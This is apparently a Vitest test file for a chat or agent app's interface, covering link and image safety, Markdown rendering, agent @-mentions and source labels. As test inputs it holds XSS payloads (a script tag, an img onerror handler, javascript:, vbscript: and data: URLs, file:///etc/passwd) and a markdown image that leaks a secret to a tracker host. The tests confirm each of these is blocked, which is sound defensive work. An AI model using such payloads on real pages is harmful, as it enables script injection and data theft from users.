import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it, vi } from "vitest";
import type { Source } from "@/contract/events";
import { plain } from "@/ui/agents/run-details";
import { completed, fitting, mentionAt } from "@/ui/agents/mention";
import { hostOf, linkTo, loading } from "@/ui/content/address";
import Markdown from "@/ui/content/markdown";
import { facts } from "@/ui/knowledge/document-row";
import { base64url } from "@/ui/remembering/person-key";
import { heardSentences } from "@/ui/sources/heard";
import { shortSource, sourceLabel } from "@/ui/sources/words";
import { format, t } from "../words";

const BASE = "http://localhost:8000/";
vi.stubGlobal("location", { href: BASE });
vi.mock("@/i18n/talk", () => import("../words"));

describe("addresses", () => {
  it("are links only where they lead to a page", () => {
    expect(linkTo("https://a.example/x", BASE)).toBe("https://a.example/x");
    expect(linkTo("/documents/1", BASE)).toBe("http://localhost:8000/documents/1");
    const bad = [
      "javascript:alert(1)",
      " JavaScript:alert(1)",
      "data:text/html,x",
      "vbscript:x",
      "file:///etc/passwd",
    ];
    for (const url of [...bad, "", "https://"]) expect(linkTo(url, BASE), url).toBeNull();
  });

  it("name their host, without www", () => {
    expect(hostOf("https://www.a.example/x", t, BASE)).toBe("a.example");
    expect(hostOf("/x", t, BASE)).toBe("this server");
    expect(hostOf("javascript:x", t, BASE)).toBe("");
  });

  it("are loaded at once only from this server, or out of the message itself", () => {
    expect(loading("/slides/1.png", BASE)).toBe("now");
    expect(loading("data:image/png;base64,AA", BASE)).toBe("now");
    expect(loading("https://tracker.example/?said=everything", BASE)).toBe("asked");
    expect(loading("//tracker.example/a.png", BASE)).toBe("asked");
    expect(loading("http://localhost:9000/a.png", BASE)).toBe("asked");
    for (const url of ["", "data:text/html,x", "javascript:x", "blob:x"])
      expect(loading(url, BASE), url).toBe("never");
  });
});

describe("Markdown", () => {
  const html = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

  it("becomes elements", () => {
    const page = html(
      "# Title\n\nSome **bold** `code`\n\n1. one\n2. two\n\n> quoted\n\n|a|b|\n|---|---|\n|1|2|\n",
    );
    for (const tag of ["<h4", "<strong", "<code", "<ol", "<li", "<blockquote", "<table", "<td"])
      expect(page).toContain(tag);
  });

  it("takes over no HTML, loads no picture, and runs no script", () => {
    const text = [
      '<img src=x onerror="alert(1)"><script>alert(1)</script>',
      "![stolen](https://tracker.example/?q=secret)",
      "[trap](javascript:alert(1)) [data](data:text/html;base64,xx)",
    ].join("\n\n");
    const page = html(text);
    expect(page).not.toMatch(/<img|<script|href="(javascript|data):/i);
    expect(page).toContain("&lt;script&gt;");
    expect(page).toContain("Picture: stolen");
  });

  it("opens links elsewhere, and says where they lead", () => {
    const page = html("See [this](https://www.a.example/x).");
    expect(page).toContain('target="_blank"');
    expect(page).toContain('rel="noopener noreferrer"');
    expect(page).toContain("a.example");
  });
});

describe("asking for an agent by name", () => {
  const agent = (name: string, title: string) => ({ name, title, description: "" });
  const AGENTS = [agent("notify", "Message"), agent("web_search", "Web search"), agent("weather", "Weather")];

  it("begins with an @ that begins a word", () => {
    expect(mentionAt("@we", 3)).toEqual({ start: 0, end: 3, query: "we" });
    expect(mentionAt("please @", 8)).toEqual({ start: 7, end: 8, query: "" });
    expect(mentionAt("me@home", 7)).toBeNull();
    expect(mentionAt("@web_search now", 15)).toBeNull();
  });

  it("offers what fits, beginnings first", () => {
    expect(fitting(AGENTS, "we").map(({ name }) => name)).toEqual(["web_search", "weather"]);
    expect(fitting(AGENTS, "MESS").map(({ name }) => name)).toEqual(["notify"]);
    expect(fitting(AGENTS, "search").map(({ name }) => name)).toEqual(["web_search"]);
    expect(fitting(AGENTS, "zzz")).toEqual([]);
  });

  it("puts the name in its place and goes on behind it", () => {
    const text = "ask @we for trams";
    const mention = mentionAt(text, 7);
    expect(mention && completed(text, mention, "web_search")).toEqual({
      text: "ask @web_search for trams",
      caret: 16,
    });
  });
});

const SOURCE: Source = {
  kind: "knowledge",
  reference: "k1",
  title: "Handbook",
  url: "",
  page: 4,
  score: 0.5,
};

describe("sources", () => {
  it("are named with their page", () => {
    expect(sourceLabel(SOURCE, t)).toBe("From the persona’s knowledge: Handbook, page 4");
    expect(shortSource(SOURCE, t)).toBe("Handbook, p. 4");
    expect(shortSource({ ...SOURCE, kind: "line" }, t)).toBe("");
    expect(sourceLabel({ ...SOURCE, kind: "filler" }, t)).toBe("Said while something takes its time");
  });

  it("stay with what was heard of an answer that was cut off", () => {
    const sentences = ["One two three. ", "Four five six. ", "Seven."].map((text, index) => ({
      ...{ index, text, source: { ...SOURCE, reference: String(index) } },
    }));
    const heard = heardSentences(sentences, "One two three. Four five");
    expect(heard.map(({ text, source }) => [text, source.reference])).toEqual([
      ["One two three.", "0"],
      ["Four five", "1"],
    ]);
    expect(heardSentences(sentences, "Uno dos")).toMatchObject([{ text: "Uno dos" }]);
    expect(heardSentences(sentences, "")).toEqual([]);
  });
});

describe("small words", () => {
  it("say values plainly", () => {
    expect(plain(["a", 2, true, null], t)).toBe("a, 2, yes, none");
  });

  it("say what is known of a document", () => {
    const item = { id: "d", title: "", name: "a.pdf", origin: "upload", detail: "", progress: 0.5 } as const;
    const read = { ...item, status: "ready", bytes: 1_240_000, pages: 12, passages: 1 } as const;
    expect(facts(read, t, format)).toBe("12 pages, 1 passage, 1.2 MB");
    const busy = { ...item, status: "encoding", bytes: 4_200, pages: 1, passages: 0 } as const;
    expect(facts(busy, t, format)).toBe("Being indexed (50%), 1 page, 4 kB");
  });

  it("make keys of 43 letters out of 32 bytes", () => {
    expect(base64url(new Uint8Array(32).fill(255))).toMatch(/^[A-Za-z0-9_-]{43}$/);
  });
});
